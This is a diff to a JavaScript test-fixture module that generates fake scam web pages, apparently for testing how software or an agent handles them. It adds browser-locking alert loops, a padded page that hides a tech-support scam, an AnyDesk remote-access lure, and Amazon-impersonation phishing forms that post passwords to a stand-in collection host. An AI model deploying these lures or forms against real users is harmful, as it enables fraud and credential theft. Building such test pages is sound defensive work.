@@ -28,6 +28,60 @@ const scamBody = `<h1>${SCAM[0]}</h1>\n${SCAM.slice(1)
   .map((line) => `<p>${line}</p>`)
   .join('\n')}`;
 
+/**
+ * A page with so much in it, before and behind, that no reader gets to all of it; what is in its middle
+ * is shown at its top.
+ *
+ * @param {string} fill
+ * @param {string} middle
+ */
+const padded = (fill, middle) =>
+  `<style>body{display:flex;flex-direction:column}body>*{order:2}main{order:1}</style>` +
+  `<div>${fill}</div><main>${middle}</main><div>${fill}</div>`;
+
+/** Fillings for {@link padded}. @type {Record<string, string>} */
+const FILLINGS = {
+  text: FILLER.repeat(1_400),
+  spans: '<span>a </span>'.repeat(45_000),
+};
+
+/** What a page is told by that is a warning beside a trap, and none without one. */
+const ALERT = '<h1>Security alert</h1><p>Your computer is infected with a virus. Your data is at risk.</p>';
+
+/** A second of silence for a player of sound: RIFF WAVE, 8,000 samples of 8 bits. */
+function sound() {
+  const bytes = Buffer.alloc(44 + 8_000, 0x80);
+  bytes.write('RIFF', 0);
+  bytes.writeUInt32LE(bytes.length - 8, 4);
+  bytes.write('WAVEfmt ', 8);
+  for (const [at, number] of [[16, 16], [24, 8_000], [28, 8_000], [40, 8_000]]) bytes.writeUInt32LE(number, at);
+  for (const [at, number] of [[20, 1], [22, 1], [32, 1], [34, 8]]) bytes.writeUInt16LE(number, at);
+  bytes.write('data', 36);
+  return `data:audio/wav;base64,${bytes.toString('base64')}`;
+}
+
+/** Ways to hold a reader; no script of them runs before somebody presses. @type {Record<string, string>} */
+const TRAPS = {
+  none: '',
+  'a box for ever': '<script>function hold() { while (true) { alert("Call now"); } }</script>',
+  'a box a hundred times': '<script>function hold() { for (let i = 0; i < 100; i++) alert("Call now"); }</script>',
+  'a box every second': '<script>function hold() { setInterval(function () { alert("Call now"); }, 1000); }</script>',
+  'a box for a field that is empty':
+    '<script>function check(all) { for (let i = 0; i < all.length; i++) { if (!all[i].value) alert("Fill this in"); } }</script>',
+  'a question to whoever leaves': '<script>function hold() { addEventListener("beforeunload", (event) => event.preventDefault()); }</script>',
+  sound: `<p><audio loop src="${sound()}"></audio></p><button onclick="document.querySelector('audio').play()">More</button>`,
+  'full screen': '<button onclick="document.documentElement.requestFullscreen()">More</button>',
+};
+
+/** A message to whoever reads it, of which little is said. */
+const LETTER =
+  '<p>Hello, this is David from the support team. Please install AnyDesk and read me the code.</p>';
+
+/** What a form says that sends a password elsewhere. */
+const CLAIM =
+  '<p>This is the Amazon security team. Someone signed in to your Amazon account from a new device. ' +
+  'Confirm your password below so that we can stop the order of $899.</p>';
+
 /** The smallest document that viewers open: one page with one line. ISO 32000-1, 7.5. */
 function pdf() {
   const line = 'BT /F1 24 Tf 60 700 Td (Your statement) Tj ET';
@@ -135,6 +189,28 @@ export function madePages(url) {
       return { body: page('A letter', scamBody).replace('<html', `<html id="${url.searchParams.get('id')}"`) };
     case 'names.longread.example/framed/':
       return { body: page('A letter', '<iframe src="/" width="900" height="600"></iframe>') };
+    case 'padded.longread.example/':
+      return { body: page('Amazon Customer Protection', padded(FILLINGS[url.searchParams.get('with') ?? ''], scamBody)) };
+    case 'padded.longread.example/calm/':
+      return { body: page('The ferry, at length', padded(FILLINGS.text, '<p>The ferry was late.</p>')) };
+    case 'traps.longread.example/':
+      return { body: page('Security', ALERT + TRAPS[url.searchParams.get('trap') ?? 'none']) };
+    // Mail programs show a message in a frame: one that has an address, and one that is written into it.
+    case 'letters.fernpost.example/':
+      return { body: page('Inbox', '<iframe src="/body/" width="900" height="300"></iframe>') };
+    case 'letters.fernpost.example/body/':
+      return { body: `<!doctype html>\n${LETTER}\n` };
+    case 'letters.fernpost.example/written/':
+      return { body: page('Inbox', `<iframe srcdoc="<title>Letter</title>${LETTER}" width="900" height="300"></iframe>`) };
+    case 'letterbox.longread.example/form/':
+      return { body: page('Message centre', `${CLAIM}<form action="https://collect.panel-9.example/"><input type="password"></form>`) };
+    case 'letterbox.longread.example/button/':
+      return {
+        body: page(
+          'Message centre',
+          `${CLAIM}<form><input type="password"><button formaction="https://collect.panel-9.example/">Go</button></form>`,
+        ),
+      };
     // What a tool's maker and what another site hand out, each under a name of the site's choice.
     case 'anydesk.com/get':
       return attachment('invoice-2026.exe');
